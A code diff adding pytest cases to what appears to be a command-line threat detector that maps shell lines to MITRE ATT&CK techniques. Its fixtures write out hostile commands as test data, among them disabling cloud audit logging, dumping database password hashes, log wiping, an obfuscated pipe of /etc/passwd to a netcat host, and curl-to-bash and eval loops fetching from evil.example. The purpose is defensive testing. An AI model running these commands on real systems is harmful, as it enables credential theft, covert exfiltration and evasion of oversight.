@@ -613,3 +613,63 @@ def test_what_a_script_does_with_its_substitutions_is_named(body: str, technique
 ])
 def test_neighbouring_routines_stay_below_alert_evidence(line: str) -> None:
     assert all(weight < 0.3 for weight in _techniques(line).values()), (line, _techniques(line))
+
+
+CLOUD_CONTROL_CREDENTIALS_AND_DISGUISES = [  # (line, technique, weight at least)
+    ("aws cloudtrail stop-logging --name org-trail", "T1562.008", 0.5),
+    ("gcloud logging sinks delete audit-sink", "T1562.008", 0.5),
+    ("gcloud iam service-accounts keys create k.json --iam-account sa@p.iam.gserviceaccount.com", "T1098.001", 0.45),
+    ("az ad sp create-for-rbac --name helper --role Owner --scopes /subscriptions/0", "T1098.001", 0.45),
+    ("gcloud projects add-iam-policy-binding prod --member user:x@evil.example --role roles/owner", "T1098.003", 0.45),
+    ("gsutil cp /tmp/.db.sql gs://drop-7731/", "T1567.002", 0.35),
+    ("az storage blob upload --account-name a -c c -f /tmp/.d.tgz -n d.tgz", "T1567.002", 0.35),
+    ("mysql -u root -e 'SELECT user,authentication_string FROM mysql.user'", "T1555", 0.45),
+    ("psql -c 'select usename, passwd from pg_shadow'", "T1555", 0.45),
+    ("curl -sk -H 'Authorization: Bearer x' https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
+     "T1552.007", 0.45),
+    ("secret-tool search --all application chrome", "T1555", 0.35),
+    ("tor --RunAsDaemon 1 --SocksPort 9050", "T1090.003", 0.4),
+    ("find /var/log -type f -exec truncate -s 0 {} ;", "T1070.002", 0.45),
+    ("cp /dev/null /var/log/lastlog", "T1070.002", 0.45),
+    ("mv /tmp/x /usr/bin/[kthreadd]", "T1036.005", 0.45),
+]
+
+
+@pytest.mark.parametrize(("line", "technique", "weight"), CLOUD_CONTROL_CREDENTIALS_AND_DISGUISES)
+def test_cloud_controls_stored_credentials_and_disguises_are_named(line: str, technique: str, weight: float) -> None:
+    assert _techniques(line).get(technique, 0) >= weight, (line, _techniques(line))
+
+
+@pytest.mark.parametrize("line", [
+    "aws s3 cp /var/backups/db.tgz s3://corp-backups/", "gcloud compute instances list", "az vm list",
+    "gcloud projects add-iam-policy-binding prod --member user:dev@corp.example --role roles/viewer",
+    "mysql -u app -e 'select * from users'", "find /var/log -name *.gz -mtime +30 -exec rm {} ;",
+    "cp /dev/null /var/log/myapp/app.log", "find /srv/www -type f -exec chmod 644 {} ;",
+    "cp -r db/migration /srv/app/migration2",
+])
+def test_cloud_and_database_routines_stay_weak(line: str) -> None:
+    assert all(weight < 0.3 for weight in _techniques(line).values()), (line, _techniques(line))
+
+
+@pytest.mark.parametrize(("body", "technique"), [
+    ("cat${IFS}/etc/passwd${IFS}|${IFS}nc${IFS}45.9.148.3${IFS}9001", "T1027"),  # and read as the pipe it is
+    ("cat${IFS}/etc/passwd${IFS}|${IFS}nc${IFS}45.9.148.3${IFS}9001", "T1041"),
+    ("a=cu;b=rl;$a$b -s http://evil.example/x", "T1027"),
+    ("X=$(echo Y2F0IC9ldGMvc2hhZG93 | base64 -d); $X", "T1140"),
+    ('while true; do c=$(curl -s http://evil.example/cmd); eval "$c"; sleep 60; done', "T1105"),
+    ("(curl -fsSL http://evil.example/k.sh || wget -q -O- http://evil.example/k.sh) | bash", "T1105"),
+    ("for h in $(awk '{print $1}' ~/.ssh/known_hosts); do ssh -oBatchMode=yes $h uptime & done", "T1021.004"),
+])
+def test_obfuscated_and_indirect_scripts_are_read_through(body: str, technique: str) -> None:
+    found = {e.technique for e in assess(ProcessEvent("sh", f"sh -c {body}", ("sh", "-c", body))) if e.weight >= 0.3}
+    assert technique in found, (body, found)
+
+
+@pytest.mark.parametrize("body", [
+    "OLDIFS=$IFS; IFS=,; for x in $LIST; do echo $x; done; IFS=$OLDIFS",
+    'CMD="systemctl restart nginx"; $CMD', '"$EDITOR" /etc/hosts', "(cd /srv/app && git pull) | tee -a /tmp/pull.log",
+    "curl -fsSL https://get.example.com/health -o /dev/null && echo ok", "ssh-keygen -R 10.0.0.5 -f ~/.ssh/known_hosts",
+])
+def test_scripts_using_variables_plainly_stay_weak(body: str) -> None:
+    found = {e.technique: e.weight for e in assess(ProcessEvent("sh", f"sh -c {body}", ("sh", "-c", body)))}
+    assert all(weight < 0.3 for weight in found.values()), (body, found)
